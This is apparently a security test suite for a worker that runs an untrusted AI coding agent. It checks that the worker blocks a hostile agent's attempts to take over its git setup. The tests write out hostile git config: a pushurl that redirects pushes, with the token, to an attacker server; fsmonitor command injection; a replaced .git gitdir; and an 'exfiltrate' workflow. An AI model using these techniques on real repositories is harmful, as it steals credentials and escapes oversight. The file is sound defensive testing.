/**
 * The agent is not trusted: it runs as the user, next to the worker's git data. These tests let
 * the fixture agent attack the worker's own git (the security review's repros) over an HTTP remote
 * that needs the token, with an attacker's server standing by to collect it.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startGitHttpServer, type GitHttpServer } from '../../support/git-remote.ts';
import { REPO, TOKEN, startHarness, type Harness } from './pipeline-harness.ts';

interface Attacker {
  readonly url: string;
  readonly requests: string[];
  stop(): Promise<void>;
}

async function startAttacker(): Promise<Attacker> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url} ${req.headers.authorization ?? '(no credentials)'}`);
    res.writeHead(401, { 'www-authenticate': 'Basic realm="evil"' });
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    async stop() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

describe('a hostile agent', () => {
  let h: Harness;
  let server: GitHttpServer;
  let attacker: Attacker;
  let dataDir: string;
  let pipeline: ReturnType<Harness['pipeline']>;
  /** Without the OS sandbox: the worker's own checks are the second line and must hold alone. */
  let unconfined: ReturnType<Harness['pipeline']>;
  let markers: string;

  beforeAll(async () => {
    h = await startHarness();
    server = await startGitHttpServer({ root: h.remotes.root, username: 'x-access-token', password: TOKEN });
    attacker = await startAttacker();
    dataDir = await mkdtemp(join(tmpdir(), 'cw-hostile-'));
    markers = await mkdtemp(join(tmpdir(), 'cw-markers-'));
    pipeline = h.pipeline({ config: { dataDir, github: { apiUrl: h.fake.url, serverUrl: server.url } } });
    unconfined = h.pipeline({
      config: { dataDir, agent: { sandbox: 'off' }, github: { apiUrl: h.fake.url, serverUrl: server.url } },
    });
  });
  afterAll(async () => {
    await server.stop();
    await attacker.stop();
    await h.close();
    await rm(dataDir, { recursive: true, force: true });
    await rm(markers, { recursive: true, force: true });
  });
  afterEach(() => {
    h.fake.assertNoViolations();
    expect(attacker.requests).toEqual([]);
  });

  const marker = (n: number) => join(markers, `pwned-${n}`);
  const hostile = (n: number, mode: string) =>
    h.issue(n, mode, {
      body: `Please fix it. [fake-aider:${mode}] [fake-aider-url:${attacker.url}/${REPO}.git] [fake-aider-marker:${marker(n)}]`,
    });
  const cloneConfig = () => join(dataDir, 'repos', 'octo-org', 'hello-world.git', 'config');
  const worktreeOf = (lines: string[]) =>
    lines.map((line) => /^Worktree (\S+) from /.exec(line)?.[1]).find((path) => path !== undefined)!;

  it('cannot redirect the push by adding a push URL to the shared clone’s config, and the next job clones afresh', async () => {
    const run = await h.run(hostile(101, 'poison-clone'), { pipeline: unconfined });

    expect(run.lines.some((line) => line.startsWith('poisoned '))).toBe(true);
    expect(run.result.kind).toBe('permanent');
    expect(run.result.kind === 'permanent' && run.result.reason).toContain(
      "files that steer the worker's git changed while the agent ran (the clone’s config)",
    );
    expect(existsSync(marker(101))).toBe(false);
    expect(await h.remotes.branchSha(REPO, 'ai-task/issue-101')).toBeNull();
    expect(h.fake.pulls(REPO).some((p) => p.head === 'ai-task/issue-101')).toBe(false);
    // The poisoned clone is gone, and the tampered worktree with it.
    expect(existsSync(cloneConfig()) && readFileSync(cloneConfig(), 'utf8').includes('pushurl')).toBe(false);
    expect(existsSync(worktreeOf(run.lines))).toBe(false);
    expect(existsSync(join(dataDir, 'worktrees', run.jobId))).toBe(false);

    const next = await h.run(h.issue(102, 'edit-commit'), { pipeline });
    expect(next.result.kind).toBe('success');
    expect(readFileSync(cloneConfig(), 'utf8')).not.toContain('pushurl');
    expect(existsSync(marker(101))).toBe(false);
  });

  it('cannot take over the worker’s git by replacing the worktree’s .git file with a repository of its own', async () => {
    const run = await h.run(hostile(103, 'replace-dotgit'), { pipeline: unconfined });

    expect(run.lines).toContain('replaced .git');
    expect(run.result.kind).toBe('permanent');
    expect(run.result.kind === 'permanent' && run.result.reason).toContain(
      "the agent replaced the worktree's .git entry",
    );
    // The attacker's fsmonitor command never ran in the worker, and nothing was pushed anywhere.
    expect(existsSync(marker(103))).toBe(false);
    expect(await h.remotes.branchSha(REPO, 'ai-task/issue-103')).toBeNull();
    // The worktree is deleted, neither kept for inspection nor pooled for reuse.
    const poisoned = worktreeOf(run.lines);
    expect(existsSync(poisoned)).toBe(false);
    expect(existsSync(join(dataDir, 'worktrees', run.jobId))).toBe(false);

    const next = await h.run(h.issue(104, 'edit-commit'), { pipeline });
    expect(next.result.kind).toBe('success');
    expect(existsSync(marker(103))).toBe(false);
  });

  it.skipIf(process.platform !== 'linux')(
    'in the OS sandbox cannot write the clone’s config or replace the worktree’s .git at all',
    async () => {
      const poison = await h.run(hostile(151, 'poison-clone'), { pipeline });
      expect(poison.lines.some((line) => line.startsWith('Sandbox: the agent runs in bubblewrap'))).toBe(
        true,
      );
      expect(poison.lines.some((line) => line.startsWith('poisoned '))).toBe(false);
      expect(existsSync(cloneConfig()) && readFileSync(cloneConfig(), 'utf8')).not.toContain('pushurl');

      const replace = await h.run(hostile(152, 'replace-dotgit'), { pipeline });
      expect(replace.lines).not.toContain('replaced .git');
      expect(replace.result.kind === 'permanent' && replace.result.reason).not.toContain(
        'replaced the worktree',
      );
      expect(existsSync(marker(151)) || existsSync(marker(152))).toBe(false);
    },
  );

  it('replaces a clone whose config was changed between jobs before using it', async () => {
    const first = await h.run(h.issue(105, 'edit-commit'), { pipeline });
    expect(first.result.kind).toBe('success');
    writeFileSync(
      cloneConfig(),
      `${readFileSync(cloneConfig(), 'utf8')}[remote "origin"]\n\tpushurl = ${attacker.url}/${REPO}.git\n[core]\n\tfsmonitor = "touch ${marker(105)}; false"\n`,
    );

    const run = await h.run(h.issue(106, 'edit-commit'), { pipeline });
    expect(run.result.kind).toBe('success');
    expect(run.lines.some((line) => line.includes('had config the worker did not write'))).toBe(true);
    expect(existsSync(marker(105))).toBe(false);
    expect(await h.remotes.commitsAhead(REPO, 'ai-task/issue-106')).toHaveLength(1);
  });

  it('does not reuse a pooled worktree whose .git another job’s agent pointed elsewhere', async () => {
    const first = await h.run(h.issue(107, 'edit-commit'), { pipeline });
    expect(first.result.kind).toBe('success');
    const pooled = worktreeOf(first.lines);
    expect(existsSync(join(pooled, '.git'))).toBe(true);
    // Another job's agent plants a repository of its own behind the idle worktree.
    const evil = await mkdtemp(join(tmpdir(), 'cw-evil-'));
    execFileSync('git', ['init', '--quiet', evil]);
    writeFileSync(join(evil, '.git', 'config'), `[core]\n\tfsmonitor = "touch ${marker(107)}; false"\n`, {
      flag: 'a',
    });
    writeFileSync(join(pooled, '.git'), `gitdir: ${join(evil, '.git')}\n`);

    const run = await h.run(h.issue(108, 'edit-commit'), { pipeline });
    expect(run.result.kind).toBe('success');
    expect(worktreeOf(run.lines)).not.toBe(pooled);
    expect(existsSync(marker(107))).toBe(false);
    await rm(evil, { recursive: true, force: true });
  });

  it('never lets git run inside a nested repository the agent committed, and refuses to push it', async () => {
    const run = await h.run(hostile(110, 'nested-repo'), { pipeline });
    expect(run.lines).toContain('nested repository committed');
    expect(run.result.kind).toBe('permanent');
    expect(run.result.kind === 'permanent' && run.result.reason).toContain(
      'the agent created nested git repositories (vendor/lib)',
    );
    expect(existsSync(marker(110))).toBe(false);
    expect(await h.remotes.branchSha(REPO, 'ai-task/issue-110')).toBeNull();

    // Left uncommitted, the worker's own commit picks it up: still never run inside, still refused.
    const uncommitted = await h.run(hostile(111, 'nested-repo:0'), { pipeline });
    expect(uncommitted.lines).toContain('nested repository left uncommitted');
    expect(uncommitted.result.kind === 'permanent' && uncommitted.result.reason).toContain(
      'the agent created nested git repositories (vendor/lib)',
    );
    expect(existsSync(marker(111))).toBe(false);
    expect(await h.remotes.branchSha(REPO, 'ai-task/issue-111')).toBeNull();
  });

  it('refuses to push changes to GitHub Actions workflows', async () => {
    const run = await h.run(h.issue(109, 'workflow'), { pipeline });
    expect(run.result.kind).toBe('permanent');
    expect(run.result.kind === 'permanent' && run.result.reason).toMatch(
      /changed GitHub Actions workflows \(\.github\/workflows\/exfiltrate\.yml\).*secrets/,
    );
    expect(await h.remotes.branchSha(REPO, 'ai-task/issue-109')).toBeNull();
  });
});
